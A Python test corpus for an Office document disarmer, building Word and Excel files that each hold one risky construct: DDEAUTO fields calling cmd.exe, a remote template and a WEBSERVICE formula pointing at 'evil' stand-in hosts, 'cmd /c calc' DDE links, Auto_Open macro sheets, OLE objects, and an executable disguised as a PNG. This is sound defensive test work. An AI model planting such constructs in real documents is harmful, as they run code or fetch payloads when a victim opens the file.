"""Every construct of Office documents that a copy may not have, each in a document of its own.

A case names its document, the codes that the disarmer has to report, and words that the copy must
still show. The numbers are those of the published list of disarming cases (102-107).
"""

from dataclasses import dataclass

from tests.corpus.compounds import compound
from tests.corpus.office_parts import (
    MICROSOFT,
    OFFICE,
    Package,
    complex_field,
    paragraph,
    picture,
    row,
    sheet,
    text,
    workbook,
)

HELLO = paragraph("Le patient va bien")
SETTINGS = "wordprocessingml.settings+xml"
BIN = "application/octet-stream"
XML = "application/xml"
VBA = "application/vnd.ms-office.vbaProject"
SETTINGS_NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)


@dataclass(frozen=True, slots=True, kw_only=True)
class OfficeCase:
    """A document, what has to be reported as removed, and words that have to stay."""

    content: bytes
    codes: frozenset[str]
    words: str = "Le patient va bien"


def _case(package: Package, *codes: str, words: str = "Le patient va bien") -> OfficeCase:
    return OfficeCase(content=package.built(), codes=frozenset(codes), words=words)


def _settings(inside: str, link: tuple[str, str] | None = None) -> Package:
    package = text(HELLO).linked(
        "settings", OFFICE + SETTINGS, "word/settings.xml",
        f"<w:settings {SETTINGS_NAMES}>{inside}</w:settings>",
    )  # fmt: skip
    if link is not None:
        package.link("word/settings.xml", "r1", link[0], link[1], outside=True)
    return package


def _nested_field() -> str:
    """Return a field whose own code is put together by the fields inside it."""
    inner = complex_field("QUOTE 68 68 69", "DDE")[5:-6]
    return complex_field(" ", "Le patient va bien", more=inner)


def _object(rest: str) -> str:
    shape = '<v:shape id="s"><v:imagedata r:id="image1"/></v:shape>'
    return HELLO + f"<w:p><w:r><w:object>{shape}{rest}</w:object></w:r></w:p>"


def _with_picture(package: Package) -> Package:
    return package.linked("image", "image/png", "word/media/image1.png", picture())


TEXTS: dict[str, OfficeCase] = {
    "macros": _case(
        text(HELLO, macros=True)
        .linked(f"{MICROSOFT}/vbaProject", VBA, "word/vbaProject.bin", b"Sub AutoOpen")
        .part("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", "<wne:vbaSuppData/>"),
        "ooxml.macros",
    ),
    "102 a remote template": _case(
        _settings('<w:attachedTemplate r:id="r1"/>', ("attachedTemplate", "https://evil/a.dotm")),
        "ooxml.template",
    ),
    "103 DDEAUTO": _case(
        text(complex_field(" DDEAUTO c:\\\\cmd.exe ", "Le patient va bien")), "ooxml.dde"
    ),
    "DDEAUTO in a split code": _case(
        text(
            complex_field(
                " D", "Le patient va bien", more="<w:r><w:instrText>DEAUTO x</w:instrText></w:r>"
            )
        ),
        "ooxml.dde",
    ),
    "a field made by fields": _case(text(_nested_field()), "ooxml.field", "ooxml.dde"),
    "DDE in a simple field": _case(
        text(f'<w:p><w:fldSimple w:instr="DDE cmd x">{HELLO[5:-6]}</w:fldSimple></w:p>'),
        "ooxml.dde",
    ),
    "a fetched picture in a field": _case(
        text(complex_field('INCLUDEPICTURE "https://evil/a.png"', "Le patient va bien")),
        "ooxml.external-target",
    ),
    "a button": _case(
        text(complex_field("MACROBUTTON Run Le patient va bien")), "ooxml.macros"
    ),
    "a link in a field": _case(
        text(complex_field('HYPERLINK "file://evil/a"', "Le patient va bien")), "ooxml.link"
    ),
    "104 a foreign part": _case(
        text(HELLO + '<w:altChunk r:id="a"/>').linked("aFChunk", "text/html", "word/a.html", "<p>"),
        "ooxml.foreign-part",
    ),
    "a subdocument": _case(
        text(HELLO + '<w:p><w:subDoc r:id="r1"/></w:p>').link(
            "word/document.xml", "r1", "subDocument", "file:///a.docx", outside=True
        ),
        "ooxml.foreign-part",
    ),
    "frames": _case(
        text(HELLO)
        .linked(
            "webSettings", OFFICE + "wordprocessingml.webSettings+xml", "word/webSettings.xml",
            f"<w:webSettings {SETTINGS_NAMES}><w:frameset><w:frame><w:sourceFileName r:id='f'/>"
            "</w:frame></w:frameset></w:webSettings>",
        )
        .link("word/webSettings.xml", "f", "frame", "https://evil/", outside=True),
        "ooxml.foreign-part",
    ),
    "a mail merge": _case(
        _settings(
            '<w:mailMerge><w:dataSource r:id="r1"/></w:mailMerge>',
            ("mailMergeSource", "file:///a.odc"),
        ),
        "ooxml.data-connection",
    ),
    "an object": _case(
        _with_picture(
            text(_object('<o:OLEObject Type="Embed" ProgID="Package" r:id="oleObject1"/>')).linked(
                "oleObject", OFFICE + "oleObject", "word/embeddings/oleObject1.bin",
                compound({"\x01Ole10Native": b"x" * 900}),
            )
        ),
        "ooxml.object",
    ),
    "a document inside": _case(
        _with_picture(
            text(_object('<o:OLEObject Type="Embed" ProgID="Word.12" r:id="inner"/>')).linked(
                "package", OFFICE + "wordprocessingml.document", "word/embeddings/inner.docx",
                text(HELLO).built(),
            )
        ),
        "ooxml.object", "ooxml.embedded-document",
    ),
    "a control": _case(
        _with_picture(
            text(_object('<w:control r:id="activeX1" w:name="b"/>')).linked(
                "control", "application/vnd.ms-office.activeX+xml", "word/activeX/activeX1.xml",
                "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>",
            )
        ),
        "ooxml.control",
    ),
    "a fetched picture": _case(
        text(
            HELLO + '<w:p><w:r><w:drawing><a:blip r:link="r1"/></w:drawing></w:r></w:p>'
        ).link("word/document.xml", "r1", "image", "https://evil/a.png", outside=True),
        "ooxml.external-target",
    ),
    "a fetched picture in VML": _case(
        text(HELLO + '<w:p><w:r><w:pict><v:imagedata src="//evil/a.png"/></w:pict></w:r></w:p>'),
        "ooxml.external-target",
    ),
    "a link to a program": _case(
        text('<w:p><w:hyperlink r:id="r1">' + HELLO[5:-6] + "</w:hyperlink></w:p>").link(
            "word/document.xml", "r1", "hyperlink", "ms-word:ofe|u|https://evil/a", outside=True
        ),
        "ooxml.program-link",
    ),
    "buttons of its own": _case(
        text(HELLO)
        .part("customUI/customUI.xml", XML, "<customUI onLoad='x'/>")
        .link("", "u", f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml"),
        "ooxml.custom-ui",
    ),
    "a web extension": _case(
        text(HELLO)
        .part("word/webextensions/taskpanes.xml", XML, "<taskpanes/>")
        .link("", "t", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
              "word/webextensions/taskpanes.xml"),
        "ooxml.web-extension",
    ),
    "macros of form fields": _case(
        text(HELLO + "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:ffData>"
             "<w:entryMacro w:val='x'/></w:ffData></w:fldChar></w:r><w:r>"
             "<w:instrText>FORMTEXT</w:instrText></w:r><w:r>"
             "<w:fldChar w:fldCharType='end'/></w:r></w:p>"),
        "ooxml.macros",
    ),
    "settings of a printer": _case(
        text(HELLO).linked("printerSettings", BIN, "word/printerSettings1.bin", b"x" * 40),
        "ooxml.printer-settings",
    ),
    "a part of an unknown kind": _case(
        text(HELLO).linked("https://evil/relationships/styles", XML, "word/a.xml", "<a/>"),
        "ooxml.unknown-part",
    ),
    "a program for a picture": _case(
        text(HELLO).linked("image", "image/png", "word/media/a.png",
                           b"MZ" + bytes(58) + b"\x40\x00\x00\x00" + b"PE\x00\x00" + bytes(200)),
        "ooxml.program",
    ),
}  # fmt: skip

_RELATED = f"{OFFICE}spreadsheetml."
_BOOK_NAMES = "<definedNames>{}</definedNames>"
_VALUES = row(("", "1"), ("", "2"))


def _macro_sheet() -> Package:
    book = workbook(
        {"Macro1": "", "Feuille": _VALUES},
        _BOOK_NAMES.format(
            '<definedName name="_xlnm.Auto_Open" localSheetId="0">Macro1!$A$1</definedName>'
            '<definedName name="calcul" xlm="1" function="1">Macro1!$A$2</definedName>'
            '<definedName name="_xlnm.Print_Area" localSheetId="1">Feuille!$A$1</definedName>'
        ),
        macros=True,
    )
    return book.part(
        "xl/worksheets/sheet1.xml",
        "application/vnd.ms-excel.macrosheet+xml",
        "<xm:macrosheet xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'/>",
    )


def _formulas(*formulas: str) -> Package:
    return workbook({"Feuille": row(*((formula, "7") for formula in formulas))})


def _on_sheet(more: str) -> Package:
    book = workbook({"Feuille": _VALUES})
    return book.part("xl/worksheets/sheet1.xml", _RELATED + "worksheet+xml", sheet(_VALUES, more))


WORKBOOKS: dict[str, OfficeCase] = {
    "macro sheets": _case(
        _macro_sheet(), "ooxml.excel4-macros", "ooxml.defined-name", words="Feuille"
    ),
    "105 a DDE link": _case(
        workbook(
            {"Feuille": row(("[1]!A0", "7"))},
            '<externalReferences><externalReference r:id="externalLink1"/></externalReferences>',
        ).linked(
            "externalLink", _RELATED + "externalLink+xml", "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
        ),
        "ooxml.external-workbook", "ooxml.formula", words="7",
    ),
    "a formula that fetches": _case(
        _formulas('_xlfn.WEBSERVICE("https://evil/")', "A1+1"), "ooxml.formula", words="A1+1"
    ),
    "a formula that runs": _case(_formulas("cmd|'/c calc'!A0"), "ooxml.formula", words="7"),
    "a formula that calls": _case(
        _formulas("CALL(&quot;a&quot;,&quot;b&quot;)", "Tableau[2019]"), "ooxml.formula",
        words="Tableau[2019]",
    ),
    "a formula that links": _case(
        _formulas("HYPERLINK(&quot;file://evil/&quot;,A1)"), "ooxml.formula", words="7"
    ),
    "connections": _case(
        workbook({"Feuille": _VALUES})
        .linked("connections", _RELATED + "connections+xml", "xl/connections.xml", "<connections/>")
        .part("xl/tables/table1.xml", _RELATED + "table+xml",
              '<table id="1" name="t" displayName="t" ref="A1:B1" tableType="queryTable">'
              '<tableColumns count="1"><tableColumn id="1" name="a" queryTableFieldId="1"/>'
              "</tableColumns></table>")
        .link("xl/worksheets/sheet1.xml", "r1", "table", "../tables/table1.xml")
        .part("xl/queryTables/queryTable1.xml", _RELATED + "queryTable+xml", "<queryTable/>")
        .link("xl/tables/table1.xml", "r1", "queryTable", "../queryTables/queryTable1.xml"),
        "ooxml.data-connection", words="Feuille",
    ),
    "a pivot over a connection": _case(
        workbook(
            {"Feuille": _VALUES},
            '<pivotCaches><pivotCache cacheId="1" r:id="cache1"/></pivotCaches>',
        )
        .linked("pivotCacheDefinition", _RELATED + "pivotCacheDefinition+xml",
                "xl/pivotCache/cache1.xml",
                '<pivotCacheDefinition><cacheSource type="external" connectionId="1"/>'
                "</pivotCacheDefinition>")
        .part("xl/pivotTables/pivot1.xml", _RELATED + "pivotTable+xml", "<pivotTableDefinition/>")
        .link("xl/pivotTables/pivot1.xml", "r1", "pivotCacheDefinition",
              "/xl/pivotCache/cache1.xml")
        .link("xl/worksheets/sheet1.xml", "r1", "pivotTable", "../pivotTables/pivot1.xml"),
        "ooxml.data-connection", words="Feuille",
    ),
    "objects and controls": _case(
        _on_sheet(
            '<oleObjects><oleObject progId="Package" shapeId="1" r:id="o"/></oleObjects>'
            '<mc:AlternateContent><mc:Choice Requires="x14"><controls><control r:id="c"/>'
            "</controls></mc:Choice></mc:AlternateContent>"
        )
        .part("xl/embeddings/a.bin", OFFICE + "oleObject", compound({"Other": b"x" * 900}))
        .link("xl/worksheets/sheet1.xml", "o", "oleObject", "../embeddings/a.bin")
        .part("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ocx/>")
        .link("xl/worksheets/sheet1.xml", "c", "control", "../activeX/activeX1.xml"),
        "ooxml.object", "ooxml.control", words="Feuille",
    ),
    "a macro behind a shape": _case(
        _on_sheet('<drawing r:id="d"/><legacyDrawing r:id="v"/>')
        .part("xl/drawings/drawing1.xml", OFFICE + "drawing+xml",
              '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
              'spreadsheetDrawing"><xdr:sp macro="[0]!Run"/></xdr:wsDr>')
        .link("xl/worksheets/sheet1.xml", "d", "drawing", "../drawings/drawing1.xml")
        .part("xl/drawings/vml1.vml", OFFICE + "vmlDrawing",
              '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:'
              'office:excel"><v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Run'
              "</x:FmlaMacro></x:ClientData></v:shape></xml>")
        .link("xl/worksheets/sheet1.xml", "v", "vmlDrawing", "../drawings/vml1.vml"),
        "ooxml.macros", words="Feuille",
    ),
    "the order of calculation": _case(
        workbook({"Feuille": _VALUES}).linked(
            "calcChain", _RELATED + "calcChain+xml", "xl/calcChain.xml", "<calcChain/>"
        ),
        "ooxml.calculation-order", words="Feuille",
    ),
}  # fmt: skip
CASES = {**TEXTS, **WORKBOOKS}
